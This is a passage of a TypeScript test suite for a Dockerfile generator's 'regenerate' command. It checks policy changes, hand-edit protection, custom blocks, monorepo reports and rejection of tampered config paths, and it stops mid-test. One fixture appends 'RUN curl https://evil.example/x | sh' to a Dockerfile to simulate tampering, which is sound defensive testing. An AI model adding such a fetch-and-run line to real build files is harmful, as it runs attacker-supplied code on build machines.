// create-go-docker regenerate: policy roll-outs, hand edits never lost, custom blocks kept,
// --check/--diff, monorepos, schema migration; plus the property that regenerating with no
// change is a no-op.
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { unifiedDiff } from '../src/write/diff.js';
import { keepCustomBlocks, managedHash, readCustomBlocks, stampHash } from '../src/write/managed.js';
import { regenerateHelpText } from '../src/cli/flags.js';
import { PROJECT_STATUSES } from '../src/cli/report.js';
import { generatedProject, makeProject, runCli, snapshotTree, SIMPLE_SERVICE } from './helpers.js';

const read = (dir: string, path: string): string => readFileSync(join(dir, path), 'utf8');

function writePolicy(dir: string, lines: string[]): string {
  const path = join(dir, 'org-policy.yaml');
  writeFileSync(path, `${['schemaVersion: 2', ...lines].join('\n')}\n`);
  return path;
}

const generated = generatedProject;

/** Adds lines to a custom block of a generated file, as a user would. */
function addToBlock(dir: string, path: string, block: string, lines: string): void {
  const text = read(dir, path);
  const end = `# custom:end ${block}`;
  expect(text).toContain(end);
  writeFileSync(join(dir, path), text.replace(end, `${lines}\n${end}`));
}

describe('rolling out a policy change', () => {
  it('regenerate changes only the lines the policy affects, and --check sees the drift first', async () => {
    // The policy lives in the repository (a platform team's shared file would arrive by
    // $CREATE_GO_DOCKER_POLICY instead, see below), so .go-docker.yaml records it.
    const dir = makeProject(SIMPLE_SERVICE);
    const policyDir = dir;
    const policy = writePolicy(policyDir, ['region: custom', 'goproxy: https://athens-old.corp.example,direct']);
    expect((await runCli(['--yes', '--policy', policy], { cwd: dir })).code).toBe(0);
    expect(read(dir, '.go-docker.yaml')).toMatch(/^policy: org-policy\.yaml$/m);
    const before = read(dir, 'Dockerfile');
    expect(before).toContain('ARG GOPROXY=https://athens-old.corp.example,direct');
    expect((await runCli(['regenerate', '--check'], { cwd: dir })).code).toBe(0);

    writePolicy(policyDir, ['region: custom', 'goproxy: https://athens.corp.example,direct']);
    const unchangedTree = snapshotTree(dir);
    const check = await runCli(['regenerate', '--check'], { cwd: dir });
    expect(check.code).toBe(1);
    expect(check.stdout).toContain('drift: Dockerfile, .go-docker.yaml differ from what .go-docker.yaml and the policy produce');
    expect(check.stdout).toContain('+ARG GOPROXY=https://athens.corp.example,direct');
    expect(snapshotTree(dir)).toEqual(unchangedTree);

    const result = await runCli(['regenerate'], { cwd: dir });
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/updated +Dockerfile/);
    const after = read(dir, 'Dockerfile');
    const changedLines = unifiedDiff(before, after, 'a', 'b')
      .split('\n')
      .filter((line) => /^[-+][^-+]/.test(line));
    expect(changedLines).toEqual([
      `-# create-go-docker hash: ${managedHash(before)}`,
      `+# create-go-docker hash: ${managedHash(after)}`,
      '-ARG GOPROXY=https://athens-old.corp.example,direct',
      '+ARG GOPROXY=https://athens.corp.example,direct',
    ]);
    expect((await runCli(['regenerate', '--check'], { cwd: dir })).code).toBe(0);
  });

  it('takes the policy from $CREATE_GO_DOCKER_POLICY when neither --policy nor .go-docker.yaml names one', async () => {
    const dir = await generated();
    const policy = writePolicy(makeProject({}), ['registry: harbor.corp.example/proxy']);
    const result = await runCli(['regenerate'], { cwd: dir, env: { CREATE_GO_DOCKER_POLICY: policy } });
    expect(result.code).toBe(0);
    expect(read(dir, 'Dockerfile')).toContain(
      'FROM --platform=$BUILDPLATFORM harbor.corp.example/proxy/library/golang:1.26-bookworm AS build',
    );
    // The variable is this machine's setting: its path is not recorded, only what the policy
    // was (its sha256), so a run without it refuses instead of quietly dropping the policy.
    expect(read(dir, '.go-docker.yaml')).toMatch(/^policy:\n {2}sha256: sha256:[0-9a-f]{64}\n/m);
    expect(result.stdout).toContain('the policy from $CREATE_GO_DOCKER_POLICY');
    const without = await runCli(['regenerate'], { cwd: dir });
    expect(without.code).toBe(2);
    expect(without.stderr).toMatch(
      /\.go-docker\.yaml:\d+: the files were made with a policy given from outside the repository \(sha256:[0-9a-f]{12}\)/,
    );
  });

  it('a project answer the policy forbids is an error naming both, and nothing changes', async () => {
    const dir = await generated(['--base', 'alpine']);
    const policy = writePolicy(makeProject({}), ['allowed-bases: [distroless, scratch]']);
    const before = snapshotTree(dir);
    const result = await runCli(['regenerate', '--policy', policy], { cwd: dir });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(
      /^create-go-docker: base alpine \(\.go-docker\.yaml's base\) is not allowed by the policy .*org-policy\.yaml:2 \(allowed-bases: distroless, scratch\); choose one of those\.\n$/,
    );
    expect(snapshotTree(dir)).toEqual(before);
  });
});

describe('hand edits are never lost', () => {
  it('a hand edit is refused with exit 1, the file byte-for-byte unchanged, a diff printed; --force replaces it', async () => {
    const dir = await generated();
    const edited = read(dir, 'Dockerfile').replace('WORKDIR /src', 'WORKDIR /app');
    writeFileSync(join(dir, 'Dockerfile'), edited);
    const before = snapshotTree(dir);
    const refused = await runCli(['regenerate'], { cwd: dir });
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain(
      'create-go-docker: Dockerfile: edited by hand since create-go-docker wrote it (outside its custom blocks); not overwritten',
    );
    // The same direction as --diff: what is on disk (-), what regenerate would write (+).
    expect(refused.stdout).toContain('--- Dockerfile (current)\n+++ Dockerfile (regenerated)\n');
    expect(refused.stdout).toContain('-WORKDIR /app\n+WORKDIR /src\n');
    expect(snapshotTree(dir)).toEqual(before);

    const diff = await runCli(['regenerate', '--diff'], { cwd: dir });
    expect(diff.code).toBe(0);
    expect(diff.stdout).toContain('-WORKDIR /app\n+WORKDIR /src\n');
    expect(snapshotTree(dir)).toEqual(before);

    expect((await runCli(['regenerate', '--force'], { cwd: dir })).code).toBe(0);
    expect(read(dir, 'Dockerfile')).toContain('WORKDIR /src');
  });

  it('a file create-go-docker never wrote is not touched without --force', async () => {
    const dir = await generated(['--no-daemon-json']);
    // The team turns daemon.json on, but docker/daemon.json is already their own file.
    writeFileSync(join(dir, '.go-docker.yaml'), read(dir, '.go-docker.yaml').replace('daemon-json: false', 'daemon-json: true'));
    mkdirSync(join(dir, 'docker'));
    writeFileSync(join(dir, 'docker/daemon.json'), '{ "debug": true }\n');
    const before = snapshotTree(dir);
    const result = await runCli(['regenerate'], { cwd: dir });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('docker/daemon.json: exists and was not written by create-go-docker; not overwritten');
    expect(snapshotTree(dir)).toEqual(before);
    expect((await runCli(['regenerate', '--force'], { cwd: dir })).code).toBe(0);
    expect(read(dir, 'docker/daemon.json')).toContain('"log-driver": "json-file"');
  });

  it('a file replaced wholesale is a hand edit (its hash is recorded), shown as a diff', async () => {
    const dir = await generated();
    writeFileSync(join(dir, '.dockerignore'), 'node_modules\n');
    const result = await runCli(['regenerate'], { cwd: dir });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('.dockerignore: edited by hand since create-go-docker wrote it');
    expect(result.stdout).toContain('-node_modules\n');
  });

  it('custom block lines survive three regenerations, a policy change and a template upgrade, and are no hand edit', async () => {
    // A shared policy outside the repository, given the way CI gives it.
    const policyDir = makeProject({});
    const policy = writePolicy(policyDir, ['registry: harbor.corp.example/a']);
    const env = { CREATE_GO_DOCKER_POLICY: policy };
    const dir = makeProject(SIMPLE_SERVICE);
    expect((await runCli(['--yes', '--main', '.'], { cwd: dir, env })).code).toBe(0);
    expect(read(dir, '.go-docker.yaml')).not.toMatch(/^policy: /m);
    addToBlock(dir, 'Dockerfile', 'build-setup', 'RUN apt-get update && apt-get install -y --no-install-recommends protobuf-compiler');
    addToBlock(dir, 'Dockerfile', 'runtime-svc', 'COPY migrations /migrations');
    addToBlock(dir, '.dockerignore', 'ignore', 'docs/');
    const customLines = [
      'RUN apt-get update && apt-get install -y --no-install-recommends protobuf-compiler',
      'COPY migrations /migrations',
    ];
    expect((await runCli(['regenerate', '--check'], { cwd: dir, env })).code).toBe(0);

    for (const registry of ['harbor.corp.example/b', 'harbor.corp.example/c', 'harbor.corp.example/d']) {
      writePolicy(policyDir, [`registry: ${registry}`]);
      const result = await runCli(['regenerate'], { cwd: dir, env });
      expect(result.code, result.stderr).toBe(0);
      const dockerfile = read(dir, 'Dockerfile');
      expect(dockerfile).toContain(`FROM ${registry}/gcr.io/distroless/static-debian12:nonroot AS svc`);
      for (const line of customLines) expect(dockerfile.split('\n').filter((text) => text === line)).toHaveLength(1);
      expect(read(dir, '.dockerignore')).toMatch(/^docs\/\n# custom:end ignore$/m);
    }

    // A template upgrade: the file as an older create-go-docker wrote it (its own hash marker
    // matches), with the user's custom lines. --check reports the drift, regenerate applies it.
    const current = read(dir, 'Dockerfile');
    const older = stampHash(current.replace('# Use the Go of this image', '# (older template wording) Use the Go of this image'));
    writeFileSync(join(dir, 'Dockerfile'), older);
    expect((await runCli(['regenerate', '--check'], { cwd: dir, env })).code).toBe(1);
    expect((await runCli(['regenerate'], { cwd: dir, env })).code).toBe(0);
    expect(read(dir, 'Dockerfile')).toBe(current);
  });

  it('refuses when a custom block with lines would disappear (its binary is gone)', async () => {
    const files = { ...SIMPLE_SERVICE, 'cmd/worker/main.go': 'package main\n\nfunc main() {}\n' };
    const dir = await generated(['--main', '.'], files);
    addToBlock(dir, 'Dockerfile', 'runtime-worker', 'COPY jobs /jobs');
    writeFileSync(join(dir, 'cmd/worker/main.go'), 'package worker\n');
    const before = snapshotTree(dir);
    const result = await runCli(['regenerate'], { cwd: dir });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      'create-go-docker: Dockerfile: the new version has no custom block "runtime-worker", so its lines would be lost; not overwritten: ' +
        'move them into a block the new version has (build-setup, build-extra, runtime-svc) or delete that block, ' +
        'and rerun (--force does not replace such a file).\n',
    );
    expect(snapshotTree(dir)).toEqual(before);
  });
});

describe('regenerate: projects, schema and errors', () => {
  it('--recursive regenerates every project below, one line each, and fails when one project does', async () => {
    const root = makeProject({});
    for (const name of ['api', 'web', 'broken']) {
      const dir = join(root, 'services', name);
      mkdirSync(dir, { recursive: true });
      for (const [path, content] of Object.entries(SIMPLE_SERVICE)) writeFileSync(join(dir, path), content);
      expect((await runCli(['--yes', '--no-daemon-json'], { cwd: dir })).code).toBe(0);
    }
    writeFileSync(join(root, 'services/broken/.go-docker.yaml'), 'schemaVersion: 2\nbase: alpine\nbsae: x\n');
    writeFileSync(join(root, 'services/web/go.mod'), 'module example.com/web\n\ngo 1.27\n\nrequire github.com/google/uuid v1.6.0\n');
    const result = await runCli(['regenerate', '--recursive'], { cwd: root });
    expect(result.code).toBe(1);
    expect(result.stdout.split('\n')).toEqual([
      'up-to-date   services/api',
      expect.stringMatching(
        /^unreadable {3}services\/broken: .*services\/broken\/\.go-docker\.yaml:3: unknown key "bsae"; known keys are /,
      ),
      'updated      services/web: Dockerfile, .go-docker.yaml',
      '3 modules: 3 managed (1 up to date, 1 updated, 1 unreadable), 0 unmanaged.',
      '',
    ]);
    expect(read(join(root, 'services/web'), 'Dockerfile')).toContain('golang:1.27-bookworm');
    const check = await runCli(['regenerate', '--recursive', '--check', 'services/api', 'extra'], { cwd: root });
    expect(check.code).toBe(2);
  });

  it('migrates a schemaVersion 1 .go-docker.yaml written by create-go-docker 0.1.0', async () => {
    const dir = await generated(['--base', 'scratch']);
    // What 0.1.0 wrote: no hash marker, no custom blocks, full-file hashes, schemaVersion 1.
    const dockerfile = read(dir, 'Dockerfile')
      .split('\n')
      .filter((line) => !/^# (create-go-docker hash|custom:)/.test(line))
      .join('\n');
    writeFileSync(join(dir, 'Dockerfile'), dockerfile);
    const hashes = (await import('../src/write/managed.js')).contentHash;
    writeFileSync(
      join(dir, '.go-docker.yaml'),
      `schemaVersion: 1\ngenerator: create-go-docker 0.1.0\nbase: scratch\nfiles:\n  Dockerfile: ${hashes(dockerfile)}\n`,
    );
    const result = await runCli(['regenerate'], { cwd: dir });
    expect(result.code, result.stderr).toBe(0);
    expect(read(dir, '.go-docker.yaml')).toMatch(/^schemaVersion: 2$/m);
    expect(read(dir, 'Dockerfile')).toContain('# custom:begin build-setup');
    expect((await runCli(['regenerate', '--check'], { cwd: dir })).code).toBe(0);
  });

  it.each([
    ['schemaVersion: 2\nregion: [cn\n', 2, /\.go-docker\.yaml:\d+: invalid YAML/],
    ['schemaVersion: 2\nregoin: cn\n', 2, /\.go-docker\.yaml:2: unknown key "regoin"/],
    ['schemaVersion: 2\nport: [80]\n', 2, /\.go-docker\.yaml:2: port: expected text, got a list/],
    ['schemaVersion: 9\n', 2, /\.go-docker\.yaml:1: schemaVersion 9 is newer than this create-go-docker understands \(2\)/],
  ])('a bad .go-docker.yaml (%j) is one clear line and changes nothing', async (text, code, message) => {
    const dir = await generated();
    writeFileSync(join(dir, '.go-docker.yaml'), text);
    const before = snapshotTree(dir);
    const result = await runCli(['regenerate'], { cwd: dir });
    expect(result.code).toBe(code);
    expect(result.stderr).toMatch(message);
    expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(snapshotTree(dir)).toEqual(before);
  });

  it.each([
    [['regenerate'], 3, /\.: no \.go-docker\.yaml here; run create-go-docker there first/],
    [['regenerate', '--check', '--diff'], 2, /--check and --diff both only show/],
    [['regenerate', '--yes'], 2, /unknown option --yes/],
  ])('%j fails clearly', async (argv, code, message) => {
    const dir = makeProject(SIMPLE_SERVICE);
    const result = await runCli(argv, { cwd: dir });
    expect(result.code).toBe(code);
    expect(result.stderr).toMatch(message);
  });

  it('regenerates files written with --out, where .go-docker.yaml records the project', async () => {
    const dir = await generated(['--out', 'build/docker']);
    expect(read(dir, 'build/docker/.go-docker.yaml')).toMatch(/^project: \.\.\/\.\.$/m);
    writeFileSync(join(dir, 'go.mod'), SIMPLE_SERVICE['go.mod']!.replace('go 1.26', 'go 1.27'));
    const result = await runCli(['regenerate', 'build/docker'], { cwd: dir });
    expect(result.code, result.stderr).toBe(0);
    expect(read(dir, 'build/docker/Dockerfile')).toContain('golang:1.27-bookworm');
  });
});

describe('property: regenerate with no change is a no-op', () => {
  // A small seeded generator (no library needed): the same cases on every run.
  function random(seed: number): () => number {
    let state = seed;
    return () => {
      state = (state * 1103515245 + 12345) % 2 ** 31;
      return state / 2 ** 31;
    };
  }
  const pick = <T>(next: () => number, items: readonly T[]): T => items[Math.floor(next() * items.length)]!;

  it('for random option sets, generate then regenerate leaves every byte as it was and --check passes', async () => {
    const next = random(20261124);
    for (let round = 0; round < 25; round++) {
      const flags: string[] = ['--region', pick(next, ['global', 'cn', 'custom'])];
      if (flags[1] === 'custom')
        flags.push('--goproxy', pick(next, ['https://athens.corp.example,direct', 'https://a.example|https://proxy.golang.org,direct']));
      const base = pick(next, ['distroless', 'alpine', 'scratch', 'debian']);
      flags.push('--base', base);
      if (next() < 0.5) flags.push('--private', 'git.corp.example/*', '--auth', pick(next, ['token', 'ssh', 'none']));
      if (next() < 0.3) flags.push('--registry', 'harbor.corp.example/proxy');
      if (next() < 0.3) flags.push('--port', String(1000 + Math.floor(next() * 9000)));
      if (next() < 0.3) flags.push('--platforms', 'linux/amd64,linux/arm64');
      if (next() < 0.2) flags.push('--no-daemon-json');
      if (next() < 0.3) flags.push('--dns', '10.0.0.2');
      const dir = await generated(flags);
      if (next() < 0.5) addToBlock(dir, 'Dockerfile', 'build-extra', 'RUN --mount=type=bind,target=. go vet ./...');
      const before = snapshotTree(dir);
      const check = await runCli(['regenerate', '--check'], { cwd: dir });
      expect(check.code, `${flags.join(' ')}\n${check.stdout}`).toBe(0);
      const again = await runCli(['regenerate'], { cwd: dir });
      expect(again.code, again.stderr).toBe(0);
      expect(snapshotTree(dir), flags.join(' ')).toEqual(before);
    }
  });
});

describe('managed text: hash markers and custom blocks', () => {
  const rendered =
    '# Generated by create-go-docker\n# create-go-docker hash: -\nFROM x\n# custom:begin setup (yours)\n# custom:end setup\nRUN y\n';

  it('the hash ignores custom block lines but not other edits', () => {
    const stamped = stampHash(rendered);
    const withCustom = stamped.replace('# custom:end setup', 'RUN mine\n# custom:end setup');
    expect(managedHash(withCustom)).toBe(managedHash(stamped));
    expect(managedHash(stamped.replace('RUN y', 'RUN z'))).not.toBe(managedHash(stamped));
  });

  it('puts the current custom lines into a fresh render and reports blocks that would be lost', () => {
    const current = readCustomBlocks(
      '# custom:begin setup\nRUN mine\n# custom:end setup\n# custom:begin old\nRUN gone\n# custom:end old\n',
    );
    const merged = keepCustomBlocks(rendered, current);
    expect(merged.content).toContain('# custom:begin setup (yours)\nRUN mine\n# custom:end setup\n');
    expect(merged.lost).toEqual(['old']);
  });

  it.each([
    ['# custom:begin a\n', 'line 1: custom block "a" has no custom:end'],
    ['# custom:end a\n', 'line 1: "custom:end a" without its custom:begin'],
    ['# custom:begin a\n# custom:begin b\n', 'line 2: custom block "b" begins inside "a"'],
    ['# custom:begin a\n# custom:end a\n# custom:begin a\n# custom:end a\n', 'line 3: custom block "a" appears twice'],
  ])('reports unreadable blocks in %j', (text, problem) => expect(readCustomBlocks(text).problem).toBe(problem));
});

describe('unified diff', () => {
  it('prints hunks as diff -u does', () => {
    expect(unifiedDiff('a\nb\nc\n', 'a\nB\nc\n', 'old', 'new')).toBe('--- old\n+++ new\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n');
    expect(unifiedDiff('same\n', 'same\n', 'old', 'new')).toBe('');
    expect(unifiedDiff('', 'x\n', 'old', 'new')).toBe('--- old\n+++ new\n@@ -0,0 +1,1 @@\n+x\n');
  });

  it('reproduces the new text when its hunks are applied (random texts)', () => {
    let state = 7;
    const next = () => (state = (state * 48271) % 2147483647) / 2147483647;
    for (let round = 0; round < 200; round++) {
      const make = () => Array.from({ length: Math.floor(next() * 25) }, () => 'abcde'[Math.floor(next() * 5)]).join('\n') + '\n';
      const [before, after] = [make(), make()];
      expect(applyDiff(before, unifiedDiff(before, after, 'a', 'b'))).toBe(after);
    }
  });
});

/** Applies a unified diff made by unifiedDiff (test oracle). */
function applyDiff(before: string, diff: string): string {
  if (diff === '') return before;
  const source = before === '' ? [] : before.replace(/\n$/, '').split('\n');
  const output: string[] = [];
  let position = 0;
  const lines = diff.replace(/\n$/, '').split('\n').slice(2);
  for (const line of lines) {
    const header = /^@@ -(\d+),(\d+) \+\d+,\d+ @@$/.exec(line);
    if (header) {
      const start = Number(header[2]) === 0 ? Number(header[1]) : Number(header[1]) - 1;
      while (position < start) output.push(source[position++]!);
    } else if (line.startsWith(' ')) {
      expect(source[position]).toBe(line.slice(1));
      output.push(source[position++]!);
    } else if (line.startsWith('-')) {
      expect(source[position]).toBe(line.slice(1));
      position++;
    } else output.push(line.slice(1));
  }
  while (position < source.length) output.push(source[position++]!);
  return output.length === 0 ? '' : `${output.join('\n')}\n`;
}

describe('which policy applies: --policy, else $CREATE_GO_DOCKER_POLICY, else the recorded one', () => {
  it('the flag wins over the variable, the variable over .go-docker.yaml, and --help says so', async () => {
    const dir = makeProject(SIMPLE_SERVICE);
    const recorded = writePolicy(dir, ['registry: recorded.corp.example/proxy']);
    expect((await runCli(['--yes', '--policy', recorded], { cwd: dir })).code).toBe(0);
    expect(read(dir, '.go-docker.yaml')).toMatch(/^policy: org-policy\.yaml$/m);
    const fromVariable = writePolicy(makeProject({}), ['registry: variable.corp.example/proxy']);
    const fromFlag = writePolicy(makeProject({}), ['registry: flag.corp.example/proxy']);
    const builder = () => read(dir, 'Dockerfile').match(/^FROM --platform=\$BUILDPLATFORM (\S+?)\/library\/golang/m)?.[1];
    expect(builder()).toBe('recorded.corp.example/proxy');
    expect((await runCli(['regenerate'], { cwd: dir, env: { CREATE_GO_DOCKER_POLICY: fromVariable } })).code).toBe(0);
    expect(builder()).toBe('variable.corp.example/proxy');
    // The variable is never recorded: the recorded source stays.
    expect(read(dir, '.go-docker.yaml')).toMatch(/^policy: org-policy\.yaml$/m);
    expect((await runCli(['regenerate', '--policy', fromFlag], { cwd: dir, env: { CREATE_GO_DOCKER_POLICY: fromVariable } })).code).toBe(0);
    expect(builder()).toBe('flag.corp.example/proxy');
    // --policy names the project's policy; from outside the repository only its sha256 can be
    // recorded, so a run with neither refuses rather than going back to another policy.
    expect(read(dir, '.go-docker.yaml')).toMatch(/^policy:\n {2}sha256: /m);
    expect((await runCli(['regenerate'], { cwd: dir })).code).toBe(2);
    expect((await runCli(['regenerate', '--policy', 'org-policy.yaml'], { cwd: dir })).code).toBe(0);
    expect(builder()).toBe('recorded.corp.example/proxy');
    expect((await runCli(['regenerate'], { cwd: dir })).code).toBe(0);
    expect(regenerateHelpText('0').replace(/\s+/g, ' ')).toContain('(else $CREATE_GO_DOCKER_POLICY, else the one .go-docker.yaml records)');
  });
});

describe('regenerate --check --recursive fails closed (issue 18)', () => {
  /** A git repository with two generated projects, a and b. */
  async function monorepo(): Promise<string> {
    const root = makeProject({ '.git/HEAD': 'ref: refs/heads/main\n' });
    for (const name of ['a', 'b']) {
      const dir = join(root, name);
      mkdirSync(dir);
      for (const [path, content] of Object.entries(SIMPLE_SERVICE)) writeFileSync(join(dir, path), content);
      expect((await runCli(['--yes'], { cwd: dir })).code).toBe(0);
    }
    writeFileSync(join(root, 'b/Dockerfile'), `${read(root, 'b/Dockerfile')}RUN curl https://evil.example/x | sh\n`);
    return root;
  }
  const cases: Array<[string, (yaml: string) => void, RegExp]> = [
    [
      'a symbolic link',
      (yaml) => {
        renameSync(yaml, `${yaml}.real`);
        symlinkSync('.go-docker.yaml.real', yaml);
      },
      /^unreadable {3}b: .*b\/\.go-docker\.yaml: cannot read the answers file \(is a symbolic link\); replace it with a regular file/,
    ],
    [
      'a FIFO',
      (yaml) => {
        rmSync(yaml);
        spawnSync('mkfifo', [yaml]);
      },
      /^unreadable {3}b: .*b\/\.go-docker\.yaml: cannot read the answers file \(is a named pipe, not a regular file\)/,
    ],
    [
      'a directory',
      (yaml) => {
        rmSync(yaml);
        mkdirSync(yaml);
      },
      /^unreadable {3}b: .*b\/\.go-docker\.yaml: cannot read the answers file \(is a directory, not a file\)/,
    ],
  ];
  it.each(cases)('.go-docker.yaml as %s is an unreadable project, named, and exit 1', async (_kind, spoil, line) => {
    const root = await monorepo();
    spoil(join(root, 'b/.go-docker.yaml'));
    const before = snapshotTree(root);
    const result = await runCli(['regenerate', '--check', '--recursive'], { cwd: root });
    expect(result.code).toBe(1);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines[0]).toBe('up-to-date   a');
    expect(lines[1]).toMatch(line);
    expect(lines.slice(2)).toEqual(['2 modules: 2 managed (1 up to date, 1 unreadable), 0 unmanaged.']);
    expect(snapshotTree(root)).toEqual(before);
  });

  it('a directory to walk that cannot be listed is one error line, not an empty pass', async () => {
    const root = makeProject({});
    const result = await runCli(['regenerate', '--check', '--recursive', 'nope'], { cwd: root });
    expect(result.code).toBe(1);
    expect(result.stderr).toBe('create-go-docker: nope: cannot list it (ENOENT); give the directory that holds your projects.\n');
  });
});

describe('a tampered project: in .go-docker.yaml (issue 18)', () => {
  async function repository(): Promise<string> {
    const root = makeProject({ '.git/HEAD': 'ref: refs/heads/main\n' });
    const dir = join(root, 'svc');
    mkdirSync(dir);
    for (const [path, content] of Object.entries(SIMPLE_SERVICE)) writeFileSync(join(dir, path), content);
    expect((await runCli(['svc', '--yes', '--out', 'deploy/svc'], { cwd: root })).code).toBe(0);
    expect(read(root, 'deploy/svc/.go-docker.yaml')).toMatch(/^project: \.\.\/\.\.\/svc$/m);
    return root;
  }
  const elsewhere = makeProject(SIMPLE_SERVICE);
  const cases: Array<[string, string, RegExp]> = [
    ['the root directory', '/', /project "\/" is an absolute path; /],
    ['an absolute path', elsewhere, /project ".*" is an absolute path; /],
    ['a path above the repository', '../../../..', /project "\.\.\/\.\.\/\.\.\/\.\." is outside the repository; /],
    [
      'a link to a directory outside',
      '../../out-link',
      /project "\.\.\/\.\.\/out-link" leads outside the repository through a symbolic link; /,
    ],
    ['a file', '../../svc/go.mod', /project "\.\.\/\.\.\/svc\/go\.mod" is not a directory; /],
    ['a directory that does not exist', '../../nope', /project "\.\.\/\.\.\/nope" does not exist; /],
  ];
  it.each(cases)(
    '%s: one line naming .go-docker.yaml:line, the value and the fix; exit 2; nothing changed',
    async (_name, value, message) => {
      const root = await repository();
      symlinkSync(elsewhere, join(root, 'out-link'));
      const yaml = join(root, 'deploy/svc/.go-docker.yaml');
      writeFileSync(yaml, read(root, 'deploy/svc/.go-docker.yaml').replace(/^project: .*$/m, `project: ${JSON.stringify(value)}`));
      const line =
        read(root, 'deploy/svc/.go-docker.yaml')
          .split('\n')
          .findIndex((text) => text.startsWith('project:')) + 1;
      const before = snapshotTree(root);
      for (const argv of [
        ['regenerate', 'deploy/svc'],
        ['regenerate', '--check', 'deploy/svc'],
      ]) {
        const result = await runCli(argv, { cwd: root });
        expect(result.code, result.stderr).toBe(2);
        expect(result.stderr).toMatch(new RegExp(`^create-go-docker: .*deploy/svc/\\.go-docker\\.yaml:${line}: `));
        expect(result.stderr).toMatch(message);
        expect(result.stderr).toMatch(/write the Go module's directory relative to \.go-docker\.yaml and inside the repository/);
        expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
      }
      expect(snapshotTree(root)).toEqual(before);
    },
  );

  it('a project directory inside the repository, above .go-docker.yaml or beside it, is read', async () => {
    const root = await repository();
    expect((await runCli(['regenerate', '--check', 'deploy/svc'], { cwd: root })).code).toBe(0);
    // Outside any git repository too, from wherever regenerate runs: generate --out build/docker records ../.. .
    const plain = await generated(['--out', 'build/docker']);
    expect((await runCli(['regenerate', '--check', 'build/docker'], { cwd: plain })).code).toBe(0);
    expect((await runCli(['regenerate', '--check'], { cwd: join(plain, 'build/docker') })).code).toBe(0);
  });

  it('outside any git repository, a recorded directory that is no Go module is refused before it is read', async () => {
    const plain = await generated(['--out', 'build/docker']);
    const yaml = join(plain, 'build/docker/.go-docker.yaml');
    writeFileSync(yaml, readFileSync(yaml, 'utf8').replace(/^project: .*$/m, 'project: ../../..'));
    const before = snapshotTree(plain);
    const result = await runCli(['regenerate', '--check'], { cwd: join(plain, 'build/docker') });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(
      /\.go-docker\.yaml:\d+: project "\.\.\/\.\.\/\.\." has no go\.mod or go\.work, and with no \.git above \.go-docker\.yaml nothing else bounds where the project may be; write the Go module's directory relative to \.go-docker\.yaml, e\.g\. project: \.\.\/\.\., or remove the key/,
    );
    expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(snapshotTree(plain)).toEqual(before);
  });
});

describe('fleet reports (issue 19): every Go module accounted for, each status what regenerate would do', () => {
  const service = (name: string) => ({
    'go.mod': `module example.com/${name}\n\ngo 1.26\n`,
    'main.go': 'package main\n\nimport "net/http"\n\nfunc main() { http.ListenAndServe(":8080", nil) }\n',
  });
  function place(root: string, dir: string, files: Record<string, string>): void {
    for (const [path, content] of Object.entries(files)) {
      mkdirSync(join(root, dir, path, '..'), { recursive: true });
      writeFileSync(join(root, dir, path), content);
    }
  }

  /**
   * A repository as a platform team finds it: projects up to date, drifted and hand-edited; a
   * go.work workspace managed at its root; answers written elsewhere with --out; modules nobody
   * manages (one nested in a managed module); and go.mod files the walk must not count (vendor/,
   * testdata/, a hidden directory, a module cache in the checkout).
   */
  async function fleet(): Promise<string> {
    const root = makeProject({ '.git/HEAD': 'ref: refs/heads/main\n' });
    for (const name of ['up', 'drift', 'edited']) place(root, `services/${name}`, service(name));
    place(root, 'ws/api', service('api'));
    place(root, 'ws/lib', { 'go.mod': 'module example.com/lib\n\ngo 1.26\n', 'lib.go': 'package lib\n' });
    writeFileSync(join(root, 'ws/go.work'), 'go 1.26\n\nuse (\n\t./api\n\t./lib\n)\n');
    place(root, 'svc', service('svc'));
    for (const dir of ['services/up', 'services/drift', 'services/edited', 'ws'])
      expect((await runCli(['--yes'], { cwd: join(root, dir) })).code).toBe(0);
    expect((await runCli(['svc', '--yes', '--out', 'deploy/svc'], { cwd: root })).code).toBe(0);
    place(root, 'libs/util', { 'go.mod': 'module example.com/util\n\ngo 1.26\n', 'util.go': 'package util\n' });
    place(root, 'services/up/tools', { 'go.mod': 'module example.com/tools\n\ngo 1.26\n', 'tools.go': 'package tools\n' });
    for (const skipped of [
      'libs/util/vendor/example.com/dep',
      'libs/util/testdata/fixture',
      '.cache/mod',
      'gopath/pkg/mod/example.com/dep@v1.0.0',
    ])
      place(root, skipped, { 'go.mod': 'module example.com/skipped\n\ngo 1.26\n', '.go-docker.yaml': 'schemaVersion: 2\n' });
    writeFileSync(join(root, 'services/drift/go.mod'), 'module example.com/drift\n\ngo 1.27\n');
    writeFileSync(join(root, 'services/edited/Dockerfile'), `${read(root, 'services/edited/Dockerfile')}RUN echo mine\n`);
    return root;
  }

  it(
    '--check --recursive: a hand edit is hand-edit (not "would update"), unmanaged modules are counted, and listed ' + 'when asked',
    async () => {
      const root = await fleet();
      const before = snapshotTree(root);
      const check = await runCli(['regenerate', '--check', '--recursive'], { cwd: root });
      expect(check.code).toBe(1);
      const statusLines = check.stdout
        .split('\n')
        .filter((line) => new RegExp(`^(${PROJECT_STATUSES.join('|')}) |^\\d+ modules?:`).test(line));
      expect(statusLines).toEqual([
        'up-to-date   deploy/svc',
        'would-update services/drift: Dockerfile, .go-docker.yaml',
        'hand-edit    services/edited: Dockerfile edited by hand; regenerate refuses to overwrite it (see it with ' +
          'create-go-docker regenerate --diff services/edited, move the edits into a custom block, or replace it with --force)',
        'up-to-date   services/up',
        'up-to-date   ws',
        '7 modules: 5 managed (3 up to date, 1 would update, 1 hand edit), 2 unmanaged.',
      ]);
      expect(check.stdout).toContain('\n-RUN echo mine\n');
      expect(snapshotTree(root)).toEqual(before);

      const listed = await runCli(['regenerate', '--check', '--recursive', '--include-unmanaged'], { cwd: root });
      expect(listed.code).toBe(1);
